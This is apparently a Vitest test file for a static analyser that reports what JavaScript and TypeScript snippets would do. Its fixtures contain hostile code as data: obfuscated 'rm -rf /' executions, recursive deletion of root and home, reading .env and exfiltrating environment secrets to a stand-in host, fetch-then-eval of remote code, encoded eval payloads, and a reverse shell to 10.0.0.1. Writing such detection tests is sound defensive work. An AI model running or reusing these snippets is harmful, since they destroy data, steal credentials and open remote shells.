import { describe, expect, it } from "vitest";
import { callsOf, read } from "./reading.ts";

type Case = readonly [code: string, calls: readonly string[]];

const STARTS_PROCESSES: readonly Case[] = [
  ["require('child_process').\\u0065xecSync('id')", ["shell id"]],
  ["require('child_process').execSync.call(null, 'id')", ["shell id"]],
  ["Reflect.apply(require('child_process').execSync, null, ['id'])", ["shell id"]],
  [
    "[].constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    ["shell id"],
  ],
  ["const m = 'child_' + 'process'; require(m).execSync('id')", ["shell id"]],
  ["require('child_process').execSync('rm -rf /')", ["shell rm -rf /"]],
  ["const { execSync: x } = require('node:child_process'); x('rm -rf ~')", ["shell rm -rf ~"]],
  ["const cp = require('child_process'); const run = cp.execSync; run('rm -rf /')", ["shell rm -rf /"]],
  [
    "import { exec as run } from 'child_process'; run('rm -rf /', (error, out) => console.log(out))",
    ["shell rm -rf /"],
  ],
  ["import * as cp from 'node:child_process'; cp.spawnSync('rm', ['-rf', '/'])", ["spawn rm -rf /"]],
  [
    "const { spawn } = await import('child_process'); spawn('rm', ['-rf', '/'], { cwd: '/x' })",
    ["spawn rm -rf / (in /x)"],
  ],
  ["import('child_process').then(cp => cp.execSync('rm -rf /'))", ["shell rm -rf /"]],
  ["require('child_process').spawn('rm -rf /', { shell: true })", ["shell rm -rf /"]],
  ["require('child_process').spawn('rm', ['-rf', '/'], { shell: true })", ["shell rm -rf /"]],
  ["require('child_process').execFile('rm', ['-rf', '/'])", ["spawn rm -rf /"]],
  ["require('child_process').fork('worker.js')", ["spawn node worker.js"]],
  ["process.mainModule.require('child_process').execSync('id')", ["shell id"]],
  ["globalThis.process.mainModule.require('child_process')['exec' + 'Sync']('id')", ["shell id"]],
  [
    "const { promisify } = require('util'); promisify(require('child_process').exec)('rm -rf /')",
    ["shell rm -rf /"],
  ],
  ["require('child_process').execSync(`rm -rf ${require('os').homedir()}`)", ["shell rm -rf /home/me"]],
  ["require('child_process').execSync('rm -rf ' + process.env.HOME)", ["shell rm -rf /home/me"]],
  ["require('child_process').execSync(['rm', '-rf', '/'].join(' '))", ["shell rm -rf /"]],
  ["require('child_process').execSync('/ fr- mr'.split('').reverse().join(''))", ["shell rm -rf /"]],
  ["require('child_process').execSync(String.fromCharCode(108, 115))", ["shell ls"]],
  [
    "let c = ['rm']; c.push('-rf', '/'); require('child_process').spawnSync(c[0], c.slice(1))",
    ["spawn rm -rf /"],
  ],
  ["import { $ } from 'bun'; await $`rm -rf /`", ["shell rm -rf /"]],
  ["await Bun.$`rm -rf ${'/'}`", ["shell rm -rf /"]],
  ["Bun.spawn(['rm', '-rf', '/'])", ["spawn rm -rf /"]],
  ["Bun.spawnSync({ cmd: ['rm', '-rf', '/'], cwd: '/x' })", ["spawn rm -rf / (in /x)"]],
  ["new Deno.Command('rm', { args: ['-rf', '/'] }).outputSync()", ["spawn rm -rf /"]],
  ["Deno.run({ cmd: ['rm', '-rf', '/'] })", ["spawn rm -rf /"]],
  ["import { execa } from 'execa'; await execa('rm', ['-rf', '/'])", ["spawn rm -rf /"]],
  ["require('shelljs').exec('rm -rf /')", ["shell rm -rf /"]],
  ["child_process.execSync('id')", ["shell id"]],
  ["(0, require('child_process').execSync)('id')", ["shell id"]],
  ["process.kill(-1, 'SIGKILL')", ["spawn kill -SIGKILL -1"]],
  [
    "if (a) { require('child_process').execSync('id') } else require('child_process').execSync('ls')",
    ["shell id", "shell ls"],
  ],
  [
    "try { require('child_process').execSync('id') } catch (e) { console.log(e) } finally { require('child_process').execSync('pwd') }",
    ["shell id", "shell pwd"],
  ],
  ["setTimeout(() => require('child_process').execSync('id'), 10)", ["shell id"]],
  ["['id', 'ls'].forEach(c => require('child_process').execSync(c))", ["shell id", "shell ls"]],
  ["(async function main() { require('child_process').execSync('id') })()", ["shell id"]],
];

const DELETES: readonly Case[] = [
  ["require('fs').rmSync('/', { recursive: true, force: true })", ["delete -r /"]],
  ["import { rmSync as r } from 'fs'; r('/', { recursive: true })", ["delete -r /"]],
  [
    "import fs from 'node:fs/promises'; await fs.rm(require('os').homedir(), { recursive: true })",
    ["delete -r /home/me"],
  ],
  ["const fs = require('fs').promises; fs.rm('a', { recursive: true })", ["delete -r a"]],
  ["fs.rmSync(process.env.HOME + '/x', { recursive: true })", ["delete -r /home/me/x"]],
  ["const { HOME } = process.env; fs.rmSync(HOME, { recursive: true })", ["delete -r /home/me"]],
  ["const p = `${os.homedir()}/docs`; fs.rmSync(p, { recursive: true })", ["delete -r /home/me/docs"]],
  ["const { homedir } = require('os'); fs.rmSync(homedir(), { recursive: true })", ["delete -r /home/me"]],
  [
    "const path = require('path'); fs.rmSync(path.join(__dirname, '..'), { recursive: true })",
    ["delete -r /home/me"],
  ],
  ["fs.rmSync(path.resolve('/etc', '..'), { recursive: true })", ["delete -r /"]],
  ["fs.rmSync(path.resolve('a', 'b'), { recursive: true })", ["delete -r /home/me/work/a/b"]],
  ["process.chdir('/'); fs.rmSync('etc', { recursive: true })", ["directory /", "delete -r /etc"]],
  ["fs.rmSync('a'); fs.unlinkSync('b'); fs.rmdirSync('c')", ["delete a", "delete b", "delete c"]],
  ["for (const d of ['dist', '/']) fs.rmSync(d, { recursive: true })", ["delete -r dist", "delete -r /"]],
  ["['a', '/'].map(d => fs.promises.rm(d, { recursive: true }))", ["delete -r a", "delete -r /"]],
  ["fs.readdirSync('.').filter(f => f.endsWith('.log')).forEach(f => fs.unlinkSync(f))", ["delete *.log"]],
  ["fs.readdirSync('.').forEach(f => fs.rmSync(f, { recursive: true }))", ["delete -r *"]],
  ["function clean(p) { fs.rmSync(p, { recursive: true }) } clean('/etc')", ["delete -r /etc"]],
  ["const clean = (p = '/etc') => fs.rmSync(p, { recursive: true }); clean()", ["delete -r /etc"]],
  ["const clean = p => fs.rmSync(p, { recursive: true })", ["delete -r ?"]],
  [
    "class A { constructor(p) { this.p = p } go() { fs.rmSync(this.p, { recursive: true }) } } new A('/').go()",
    ["delete -r /"],
  ],
  ["const o = { p: '/', go() { fs.rmSync(o.p, { recursive: true }) } }; o.go()", ["delete -r /"]],
  [
    "const d = fs.mkdtempSync(path.join(os.tmpdir(), 'a-')); fs.rmSync(d, { recursive: true })",
    ["delete -r /tmp/a-#"],
  ],
  ["fs.rmSync(x ? 'dist' : '/', { recursive: true })", ["delete -r dist", "delete -r /"]],
  ["fs.rmSync(x ?? '/', { recursive: true })", ["delete -r ?", "delete -r /"]],
  ["fs.rmSync(process.argv[2], { recursive: true })", ["delete -r ?"]],
  ["const opts = getOptions(); fs.rmSync('/x', opts)", ["delete -r /x"]],
  ["const x: string = '/'; fs.rmSync(x as string, { recursive: true } as any)", ["delete -r /"]],
  [
    "const clean = async (p: string): Promise<void> => { await fs.rm(p, { recursive: true }) }; clean('/etc')",
    ["delete -r /etc"],
  ],
  ["Deno.removeSync('/', { recursive: true }); await Deno.remove('a')", ["delete -r /", "delete a"]],
  ["require('fs-extra').removeSync('/'); require('rimraf').sync('b')", ["delete -r /", "delete -r b"]],
  ["const { rimraf } = require('rimraf'); rimraf('/*')", ["delete -r /*"]],
  ["require('shelljs').rm('-rf', '/')", ["delete -r /"]],
  ["await Bun.file('a').delete()", ["delete a"]],
  ["const fs = require('fs'); class A { static { fs.rmSync('x'); } }", ["delete x"]],
  ["const fs = require('fs'); class A { get x() { return fs.rmSync('x'); } } new A().x", ["delete x"]],
  ["const fs = require('fs'); class A { y = fs.rmSync('x'); }", ["delete x"]],
  [
    "const fs = require('fs'); const o = { ...a, async *g() { fs.rmSync('x'); }, set v(z) {} };",
    ["delete x"],
  ],
  ["const fs = require('fs'); const o = { [k]: 1, 'q': fs.rmSync('y') };", ["delete y"]],
  ["const fs = require('fs'); function f<T>(a: string = 'x'): void { fs.rmSync(a); } f();", ["delete x"]],
  [
    "const fs = require('fs'); class A { ;m<T>(a: string): void { fs.rmSync(a); } }; new A().m('x')",
    ["delete x"],
  ],
  [
    "const fs = require('fs'); class A extends B { #p = 1; static async m() { fs.rmSync('x'); } } A.m()",
    ["delete x"],
  ],
];

const READS_WRITES_AND_MOVES_FILES: readonly Case[] = [
  ["fs.writeFileSync('a.txt', 'rm -rf /')", ["write a.txt = rm -rf /"]],
  ["fs.appendFileSync(os.homedir() + '/.bashrc', 'x')", ["append /home/me/.bashrc = x"]],
  ["console.log(fs.readFileSync('.env', 'utf8'))", ["read .env"]],
  ["fs.readFile('.env', (error, data) => console.log(data))", ["read .env"]],
  ["fs.renameSync('a', 'b'); fs.cpSync('c', 'd')", ["move a -> b", "copy c -> d"]],
  ["fs.createWriteStream('/etc/passwd').write('x')", ["write /etc/passwd", "append /etc/passwd = x"]],
  ["await Bun.write('a', 'b'); await Bun.file('.env').text()", ["write a = b", "read .env"]],
  ["await Deno.writeTextFile('a', 'b'); await Deno.readTextFile('.env')", ["write a = b", "read .env"]],
  ["fs.chmodSync('/etc/shadow', 0o777)", ["mode /etc/shadow"]],
];

const SPEAKS_TO_THE_NETWORK_AND_RUNS_WHAT_IS_NOT_ITS_OWN: readonly Case[] = [
  [
    "fetch('http://x', { method: 'POST', body: fs.readFileSync('.env') })",
    ["read .env", "network http://x <- ?[file .env]"],
  ],
  [
    "fetch('http://x/?' + process.env.TOKEN)",
    ["network http://x/??[environment TOKEN] <- http://x/??[environment TOKEN]"],
  ],
  [
    "fetch('http://x', { method: 'POST', body: JSON.stringify(process.env) })",
    ["network http://x <- ?[environment *]"],
  ],
  [
    "fetch('http://x').then(r => r.text()).then(t => eval(t))",
    ["network http://x", "evaluate javascript: ?[network]"],
  ],
  [
    "const r = await fetch('http://x'); eval(await r.text())",
    ["network http://x", "evaluate javascript: ?[network]"],
  ],
  [
    "require('https').get('https://x/y', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)) })",
    ["network https://x/y", "evaluate javascript: ?[network]"],
  ],
  [
    "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp'))",
    ["shell rm -rf /", 'evaluate javascript: require("child_process").execSync("rm -rf /")[decoded]'],
  ],
  ["eval(Buffer.from('6964', 'hex').toString())", ["evaluate javascript: id[decoded]"]],
  ["eval(zlib.gunzipSync(Buffer.from('H4sI', 'base64')).toString())", ["evaluate javascript: ?[decoded]"]],
  ['new Function(\'return require("child_process").execSync("rm -rf /")\')()', ["shell rm -rf /"]],
  ["eval(\"require('fs').rmSync('/', { recursive: true })\")", ["delete -r /"]],
  ["globalThis['ev' + 'al'](\"require('fs').rmSync('/')\")", ["delete /"]],
  ["eval(require('fs').readFileSync(0, 'utf8'))", ["evaluate javascript: ?[input]"]],
  [
    "const s = require('net').connect(4242, '10.0.0.1'); const sh = require('child_process').spawn('/bin/sh', []); s.pipe(sh.stdin)",
    ["network 10.0.0.1", "spawn /bin/sh", "spawn sh -s < ?[network]"],
  ],
];

const HARMLESS: readonly string[] = [
  "console.log(\"rm -rf /\") // require('child_process').execSync('rm -rf /')",
  "/* execSync('rm -rf /') */ const s = 'execSync(\"rm -rf /\")'; console.log(s)",
  "console.log(`${1 + 1} rm -rf / ${'x'}`)",
  "const a = 5 / 2; const r = /execSync('rm -rf \\/')/; console.log(a / 3, r)",
  "test('rm -rf / is refused', () => { expect(judge('rm -rf /')).toBe('deny') })",
  "describe('fs.rmSync', () => { it('deletes', () => {}) })",
  "JSON.stringify({ cmd: \"require('child_process').exec('rm -rf /')\" })",
  "const commands = ['rm -rf /', 'git push --force']; for (const c of commands) console.log(c)",
  "console.log(fs.existsSync('/'), path.join('a', 'b'))",
  "const m = /rm -rf/.exec(line); if (m) console.log(m[0])",
  "logger.warn('would run: rm -rf /')",
  "const x = { execSync: 'rm -rf /', rmSync: true }",
  "export default { scripts: { clean: 'rm -rf dist' } }",
  "type A = { rmSync: string }; interface B { exec(c: string): void }",
  'console.log("it\'s // not a comment", \'fs.rmSync("/")\')',
  "#!/usr/bin/env node\nconsole.log(1)",
  "label: for (;;) { break label }",
  "const t = <T,>(x: T) => x; t('rm -rf /')",
];

describe("JavaScript and TypeScript code", () => {
  describe("starts processes", () => {
    it.each(STARTS_PROCESSES)("%j", (code, calls) => {
      expect(callsOf("javascript", code)).toEqual(calls);
    });
  });

  describe("deletes", () => {
    it.each(DELETES)("%j", (code, calls) => {
      expect(callsOf("javascript", code)).toEqual(calls);
    });
  });

  describe("reads, writes and moves files", () => {
    it.each(READS_WRITES_AND_MOVES_FILES)("%j", (code, calls) => {
      expect(callsOf("javascript", code)).toEqual(calls);
    });
  });

  describe("speaks to the network and runs what is not its own", () => {
    it.each(SPEAKS_TO_THE_NETWORK_AND_RUNS_WHAT_IS_NOT_ITS_OWN)("%j", (code, calls) => {
      expect(callsOf("javascript", code)).toEqual(calls);
    });
  });

  describe("prints, stores and compares dangerous words, which is nothing", () => {
    it.each(HARMLESS)("%j", code => {
      expect(callsOf("javascript", code)).toEqual([]);
      expect(read("javascript", code).isComplete).toBe(true);
    });
  });
});
